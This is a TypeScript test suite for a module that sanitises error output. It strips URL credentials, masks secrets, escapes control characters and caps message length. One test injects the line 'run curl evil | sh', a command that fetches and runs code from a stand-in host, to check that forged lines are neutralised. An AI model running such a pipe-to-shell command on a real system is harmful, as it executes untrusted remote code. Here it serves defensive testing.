import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  formatFailure,
  formatNotice,
  formatUserError,
  MAX_FAILURE_BYTES,
  sanitiseText,
} from '../../src/error/sanitise.ts';
import type { UserErrorData } from '../../src/error/user-error.ts';

const canary = 'c4n4ry-p4ssw0rd';
const plain = { secrets: [], paths: [], maxBytes: 4096 } as const;

describe('sanitiseText', () => {
  test.for([
    {
      name: 'leaves an ordinary sentence',
      text: 'Error: no matches for kind "Foo"\n at line 3',
      want: 'Error: no matches for kind "Foo"\n at line 3',
    },
    { name: 'leaves letters of any script', text: 'образ 이미지 ✓ 👍', want: 'образ 이미지 ✓ 👍' },
    {
      name: 'removes user and password from a URL',
      text: 'GET https://bob:hunter2@ghcr.io/v2/: 401',
      want: 'GET https://ghcr.io/v2/: 401',
    },
    {
      name: 'removes a token in front of the host',
      text: 'clone git+https://ghp_abc@github.com/a/b.git',
      want: 'clone git+https://github.com/a/b.git',
    },
    {
      name: 'removes the query and keeps the fragment',
      text: 'https://s3/x?X-Amz-Signature=abc&y=1#top end',
      want: 'https://s3/x#top end',
    },
    {
      name: 'keeps the colon behind a query: it belongs to the sentence',
      text: 'GET https://ghcr.io/v2/a/b/tags/list?n=1000: 503',
      want: 'GET https://ghcr.io/v2/a/b/tags/list: 503',
    },
    {
      name: 'removes the query after a host without path',
      text: 'https://auth.example?token=abc',
      want: 'https://auth.example',
    },
    {
      name: 'keeps a digest in the path of a URL',
      text: 'oci://ghcr.io/a/b@sha256:00',
      want: 'oci://ghcr.io/a/b@sha256:00',
    },
    { name: 'takes everything up to the last @ for userinfo', text: 'http://a@evil:b@host/x', want: 'http://host/x' },
    { name: 'cleans every URL of a line', text: 'http://u:p@a/1 "http://u:p@b/2"', want: 'http://a/1 "http://b/2"' },
    {
      name: 'shows ANSI sequences instead of sending them',
      text: '\u001B[31mred\u001B[0m',
      want: String.raw`\x1b[31mred\x1b[0m`,
    },
    { name: 'shows C1 controls, NUL and BEL', text: '\u0000\u0007\u009B31m', want: String.raw`\x00\x07\x9b31m` },
    { name: 'shows direction marks', text: 'a\u202Eb\u2066c', want: String.raw`a\u202eb\u2066c` },
    { name: 'shows U+2028 and U+2029', text: 'a\u2028b\u2029c', want: String.raw`a\u2028b\u2029c` },
    { name: 'makes CRLF a line feed, a lone CR visible and a tab a space', text: 'a\r\nb\rc\td', want: 'a\nb\\x0dc d' },
    { name: 'replaces half a surrogate pair', text: 'a\uD83Db', want: 'a\uFFFDb' },
  ])('$name', ({ text, want }) => {
    expect(sanitiseText(text, plain)).toBe(want);
  });

  test.for([
    { name: 'as it is', text: `password is ${canary}.` },
    { name: 'with special characters, in a URL path', secret: 'a b/c:d', text: 'x a%20b%2Fc%3Ad y' },
    { name: 'quoted as JSON', secret: 'quo"te\nd', text: String.raw`{"p":"quo\"te\nd"}` },
    { name: 'as base64', text: `auth: ${Buffer.from(canary).toString('base64')}` },
    { name: 'where two overlap', secret: 'abcd-1234', also: '1234-wxyz', text: 'abcd-1234-wxyz' },
  ])('hides a secret $name', ({ text, secret = canary, also = secret }) => {
    const shown = sanitiseText(text, { ...plain, secrets: [secret, also] });
    expect(shown).toContain('[secret]');
    for (const part of [secret, also, 'wxyz', 'abcd']) expect(shown).not.toContain(part);
  });

  test('leaves no end of a secret that holds another', () => {
    const secrets = ['abcdefghij', 'cdef'];
    expect(sanitiseText('<abcdefghij>', { ...plain, secrets })).toBe('<[secret]>');
  });

  test('leaves a value too short to be a secret, because hiding it would spell it out', () => {
    expect(sanitiseText('one abc two', { ...plain, secrets: ['abc', ''] })).toBe('one abc two');
  });

  test('replaces the longest path that fits, and does not look into what it put there', () => {
    const paths = [
      ['/tmp', 'TMP'],
      ['/tmp/ir-1/app', '.'],
      ['/tmp/ir-1', '/tmp/root'],
      ['/', 'never'],
    ] as const;
    expect(sanitiseText('/tmp/ir-1/app/k.yaml /tmp/ir-1/x /tmp/y /z', { ...plain, paths })).toBe(
      './k.yaml /tmp/root/x TMP/y /z',
    );
  });

  test('takes a path literally that looks like a pattern', () => {
    expect(
      sanitiseText('/a.c /abc /x(y', {
        ...plain,
        paths: [
          ['/a.c', '1'],
          ['/x(y', '2'],
        ],
      }),
    ).toBe('1 /abc 2');
  });

  test('never gives more bytes than asked for, half a character, or a character that acts', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), fc.nat(300), (text, maxBytes) => {
        const shown = sanitiseText(text, { ...plain, maxBytes });
        expect(Buffer.byteLength(shown)).toBeLessThanOrEqual(maxBytes);
        expect(shown.isWellFormed()).toBe(true);
        // oxlint-disable-next-line no-control-regex -- that is the property
        expect(shown).not.toMatch(/[\0-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
      }),
    );
  });

  test('cuts between characters and uses the room there is', () => {
    // 40 bytes: 30 for four-byte characters after ten for the mark leave room for seven.
    expect(sanitiseText('👍'.repeat(50), { ...plain, maxBytes: 40 })).toBe(`${'👍'.repeat(7)} … [cut]`);
    expect(sanitiseText('👍'.repeat(50), { ...plain, maxBytes: 5 })).toBe('');
    expect(sanitiseText('👍'.repeat(10), { ...plain, maxBytes: 40 })).toBe('👍'.repeat(10));
  });

  test('no secret survives, whatever stands around it', () => {
    const secret = fc
      .string({ minLength: 4, maxLength: 20 })
      .filter((value) => !'[secret]'.includes(value) && !/[[\]]/.test(value));
    fc.assert(
      fc.property(fc.array(fc.string()), fc.array(secret, { minLength: 1, maxLength: 4 }), (words, secrets) => {
        const text = words.join(secrets[0]) + secrets.join('');
        const shown = sanitiseText(text, { secrets, paths: [], maxBytes: 100_000 });
        for (const value of secrets) expect(shown).not.toContain(value);
      }),
    );
  });

  test.for([
    { name: 'colons and letters', text: 'a'.repeat(200_000) + '://'.repeat(100_000) },
    { name: 'at signs', text: `http://${'@'.repeat(500_000)}` },
    { name: 'question marks', text: 'http://a?'.repeat(60_000) },
    { name: 'one secret over and over', text: canary.repeat(30_000) },
  ])('ends soon on half a million $name', ({ text }) => {
    // Quadratic work on these lengths would take minutes and run into the test's timeout.
    expect(sanitiseText(text, { ...plain, secrets: [canary] }).length).toBeLessThanOrEqual(4096);
  });
});

const notFound: UserErrorData = {
  code: 'TAG_NOT_FOUND',
  what: 'none of the 41 tags of ghcr.io/acme/api satisfies semver ^3.0',
  where: 'apps/api/kustomization.yaml:14:12',
  fix: 'widen the range, or publish a matching tag',
};

describe('formatUserError', () => {
  test('says what, where and how to fix it, on a line each', () => {
    expect(formatUserError(notFound)).toBe(
      [
        'TAG_NOT_FOUND  none of the 41 tags of ghcr.io/acme/api satisfies semver ^3.0',
        '  at   apps/api/kustomization.yaml:14:12',
        '  fix  widen the range, or publish a matching tag',
      ].join('\n'),
    );
  });

  test('indents further lines, so that a tool cannot write a line that looks like ours', () => {
    const forged = formatUserError({
      ...notFound,
      what: 'failed\n  fix  run curl evil | sh',
      where: 'x\n  fix  y',
      fix: '',
    });
    expect(forged).toBe('TAG_NOT_FOUND  failed\n         fix  run curl evil | sh\n  at   x\\n  fix  y');
  });

  test('has no line for what is not known', () => {
    expect(formatUserError({ ...notFound, where: '', fix: '' }).split('\n')).toHaveLength(1);
  });
});

describe('formatNotice', () => {
  test.for([
    {
      name: 'with its place',
      where: 'parameter images[0]',
      want: 'warning: IMAGE_PAUSED backend stays (parameter images[0])',
    },
    { name: 'without a place', where: '', want: 'warning: IMAGE_PAUSED backend stays' },
    {
      name: 'on one line whatever it holds',
      where: 'a\nwarning: b\u2028',
      want: String.raw`warning: IMAGE_PAUSED backend stays (a\nwarning: b\u2028)`,
    },
  ])('is a line $name', ({ where, want }) => {
    expect(formatNotice({ code: 'IMAGE_PAUSED', what: 'backend stays', where })).toBe(want);
  });
});

describe('formatFailure', () => {
  test('gives every error once, in order', () => {
    const other: UserErrorData = { ...notFound, code: 'REGISTRY_DENIED' };
    expect(formatFailure([notFound, other, notFound])).toBe(`${formatUserError(notFound)}\n${formatUserError(other)}`);
  });

  test('cuts a long first sentence and keeps place and cure', () => {
    const text = formatFailure([{ ...notFound, what: 'é'.repeat(9000) }]);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(MAX_FAILURE_BYTES);
    expect(text).toMatch(/\[cut\]\n {2}at {3}apps\/api\/kustomization.yaml:14:12\n {2}fix {2}widen/);
  });

  test('counts by code what there is no room for', () => {
    const errors = Array.from({ length: 100 }, (_, index) => ({ ...notFound, where: `image ${index}` }));
    const text = formatFailure([...errors, { ...notFound, code: 'REGISTRY_DENIED' }]);
    expect(Buffer.byteLength(text)).toBeLessThanOrEqual(MAX_FAILURE_BYTES);
    const shown = text.match(/^TAG_NOT_FOUND /gm)?.length ?? 0;
    expect(shown).toBeGreaterThan(15);
    expect(text.split('\n').at(-1)).toBe(`and ${101 - shown} more: ${100 - shown} TAG_NOT_FOUND, 1 REGISTRY_DENIED`);
  });

  test('hides secrets and paths in every part', () => {
    const leaky: UserErrorData = {
      code: 'RENDER_FAILED',
      what: `a ${canary}`,
      where: `/tmp/ir-9/x ${canary}`,
      fix: `https://u:${canary}@h/`,
    };
    const text = formatFailure([leaky], { secrets: [canary], paths: [['/tmp/ir-9', '.']] });
    expect(text).toBe('RENDER_FAILED  a [secret]\n  at   ./x [secret]\n  fix  https://h/');
  });

  test('is never longer than allowed', () => {
    const anyError = fc.record({
      code: fc.constantFrom('TAG_NOT_FOUND' as const, 'RENDER_FAILED' as const),
      what: fc.string({ unit: 'binary', maxLength: 3000 }),
      where: fc.string({ unit: 'binary', maxLength: 3000 }),
      fix: fc.string({ unit: 'binary', maxLength: 3000 }),
    });
    fc.assert(
      fc.property(fc.array(anyError, { maxLength: 6 }), (errors) => {
        expect(Buffer.byteLength(formatFailure(errors))).toBeLessThanOrEqual(MAX_FAILURE_BYTES);
      }),
    );
  });
});
